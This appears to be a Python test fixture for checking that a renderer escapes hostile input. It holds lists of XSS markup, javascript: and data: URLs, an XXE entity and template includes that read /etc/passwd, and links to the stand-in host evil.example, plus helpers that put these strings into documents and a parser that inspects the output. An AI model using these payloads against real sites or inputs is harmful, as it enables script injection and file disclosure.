"""Text that tries to become something else, and documents in which every text is such a text."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</desc></svg><iframe src=javascript:alert(1)>",
    "</style><script>alert(1)</script>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "}</style><body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onclick=`alert(1)`",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</td></tr></table><script>alert(1)</script>",
    "<table><caption>x",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "<IMG SRC=&#106;avascript:alert(1)>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://news.example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://news.example.org/1",
    "//evil.example/x",
    "https:evil.example",
    "https:///evil.example",
    "https://user:secret@evil.example/",
    "https://news.example.org\\@evil.example/",
    "https://news.example.org/a b",
    "https://news.example.org/\u202egnp.exe",
    "https://news.example.org/\nSet-Cookie: a",
    "http://[::1]/",
    "http://127.0.0.1/",
    "http://localhost/",
    "ftp://news.example.org/",
    "https://xn--\u0430.example.org",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    '#read("/etc/passwd")',
    '#image("/etc/passwd")',
    '#eval("1+1")',
    "*bold* _slant_ $x^2$ `raw` @label <label> = Heading",
    "][#panic()",
    "\\u{41} \\ ~ -- --- '' \"",
    "url(#x);fill:red",
    "%s %n %(name)s {0} {name!r}",
)
MARKDOWN = (
    "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "www.evil.example and https://evil.example/x and a@evil.example",
    "| a | b |\n| --- | --- |\n| c | d |",
    "\n\n# heading\n\n- item\n\n```\ncode\n```\n",
    "    four spaces",
    "--- \n===",
    "1. one",
    "> quote",
    "~~~",
    "$$x$$ ~~gone~~ ==mark== ^[note] [^1]: note {: onclick=alert(1)}",
)
HIDDEN = (
    "a\u202eb\u202cc",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u2066left\u2069",
    "a\u00adb",
    "line\u2028break\u2029end",
    "nul\x00bell\x07esc\x1b[31mred",
    "tag\U000e0041\U000e007f",
    "lone\ud800surrogate",
    "private\ue000use",
    "e\u0301\u0301\u0301\u0301\u0301",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\u4e2d\u6587 \U0001f600",
    "x" * 5000,
)
PAYLOADS = (*MARKUP, *ADDRESSES, *TEMPLATES, *MARKDOWN, *HIDDEN)
# These decide what is drawn, not what is written: the kind of brief and the time that a file carries.
KEPT = frozenset({"kind", "as_of"})


def poison(value: Any, text: str, key: str = "") -> Any:
    """Return a document in which every text is that text."""
    if isinstance(value, str):
        return value if key in KEPT else text
    if isinstance(value, dict):
        return {name: poison(inner, text, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [poison(inner, text, key) for inner in value]
    return value


def append(value: Any, text: str, key: str = "") -> Any:
    """Return a document in which that text follows every text, so that dates and sides are no longer ones."""
    if isinstance(value, str):
        return value if key in {*KEPT, "side", "since", "until", "by", "period"} else value + text
    if isinstance(value, dict):
        return {name: append(inner, text, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [append(inner, text, key) for inner in value]
    return value


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and what its links and handlers are."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[dict[str, str | None]] = []
        self.handlers: list[str] = []
        self.addresses: list[str] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        if tag == "a":
            self.links.append(dict(attrs))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(name)
            if name in ("href", "src", "srcset", "action", "data", "xlink:href", "formaction", "poster"):
                self.addresses.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.comments.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.comments.append(data)

    def handle_pi(self, data: str) -> None:
        self.comments.append(data)
